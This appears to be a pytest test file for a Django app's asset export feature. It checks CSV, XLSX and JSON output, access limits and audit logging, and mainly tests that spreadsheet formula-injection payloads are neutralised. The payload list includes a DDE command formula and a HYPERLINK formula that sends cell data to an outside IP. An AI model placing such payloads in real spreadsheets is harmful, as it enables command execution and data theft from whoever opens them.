"""A list as a file: what is in it, and that no spreadsheet runs any of it."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.http import QueryDict
from python_calamine import CalamineWorkbook

from remit.identify.assets.models import Asset
from remit.kernel.listing import Listing
from remit.kernel.resources import resource
from remit.kernel.transfer.exporting import TooManyRowsError, cell, exported, joined
from remit.kernel.transfer.formulas import dangerous, disarmed, rearmed
from tests.conftest import being, signed_in

PAYLOADS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", " =1+1", "  +1", '"=1+1', "'=1+1", "|calc", "%0A=1+1", "\u00a0=1",
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_dangerous_text_is_disarmed_and_comes_back(payload: str) -> None:
    assert dangerous(payload)
    assert disarmed(payload) == "'" + payload
    assert rearmed(disarmed(payload)) == payload


@pytest.mark.parametrize(
    "text", ["", "web-01", "10.0.0.1", "a=b", "'quoted'", "'", "O'Neill", "2026-01-01", " leading"]
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert disarmed(text) == rearmed(text) == text


@pytest.mark.parametrize("number", [-5, -2.5, 0, 7])
def test_numbers_stay_numbers(number: float) -> None:
    assert cell(number) == number


def test_lists_are_written_so_that_they_come_apart_again() -> None:
    assert joined(["a", "b, c", 'd "e"']) == 'a, "b, c", "d ""e"""'


def read(listing: Listing, format: str) -> tuple[bytes, int]:
    file, count = exported(listing, format)
    with file:
        return file.read(), count


def rows_of(data: bytes, format: str) -> list[list[Any]]:
    if format == "csv":
        assert data.startswith(b"\xef\xbb\xbf")
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_every_text_cell_is_safe(cast: Any, format: str) -> None:
    with being(None):
        for payload in PAYLOADS:
            Asset.objects.create(
                name=payload, unit=cast.company, data_classes=[payload], fqdn=payload[:200], criticality=4
            )
    with being(cast.bob):
        data, count = read(Listing(resource("assets"), QueryDict("columns=name,data_classes,fqdn,criticality")), format)
    rows = rows_of(data, format)
    assert count == len(PAYLOADS)
    assert rows[0] == ["Ref", "Name", "Data classes", "Domain name", "Criticality"]
    for row in rows[1:]:
        for value in row:
            if isinstance(value, str):
                assert value.startswith("'") or not dangerous(value)


def test_only_what_is_within_reach_and_on_the_ledger(world: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    noted: list[Any] = []
    monkeypatch.setattr(
        "remit.kernel.transfer.exporting.note", lambda *said, **more: noted.append((*said, more["text"]))
    )
    with being(world.cast.bob):
        data, count = read(Listing(resource("assets"), QueryDict("criticality=4")), "csv")
    assert count == 1
    text = data.decode("utf-8-sig")
    assert "web-01" in text
    assert "canary" not in text
    assert "Unit code" in text
    assert noted == [("export", "assets.asset", "1 assets as CSV; criticality=4")]


def test_json_holds_what_the_api_answers(world: Any) -> None:
    with being(world.cast.bob):
        data, _ = read(Listing(resource("assets"), QueryDict("columns=name,owner,data_classes&sort=name")), "json")
    found = json.loads(data)
    assert found["kind"] == "assets.asset"
    assert found["items"][0] == {
        "id": world.owned.pk, "ref": world.owned.ref, "version": 1, "name": "db-01", "data_classes": [],
        "owner": {"id": world.cast.carol.pk, "ref": "carol@remit.example", "name": "Carol Test"},
    }  # fmt: skip


def test_too_many_rows_say_what_to_do(world: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("remit.kernel.transfer.exporting.MOST", 1)
    with being(world.cast.bob), pytest.raises(TooManyRowsError, match="filter"):
        exported(Listing(resource("assets"), QueryDict("")), "csv")


def test_the_view_asks_the_verb_and_sends_a_file(world: Any) -> None:
    answer = signed_in(world.cast.bob).get("/assets/export.csv?sort=name")
    assert answer.status_code == 200
    assert answer["Content-Disposition"].startswith('attachment; filename="assets-')
    lines = b"".join(answer.streaming_content).decode("utf-8-sig").splitlines()
    assert len(lines) == 3
    assert signed_in(world.cast.carol).get("/assets/export.csv").status_code == 403
    assert signed_in(world.cast.bob).get("/assets/export.exe").status_code == 302
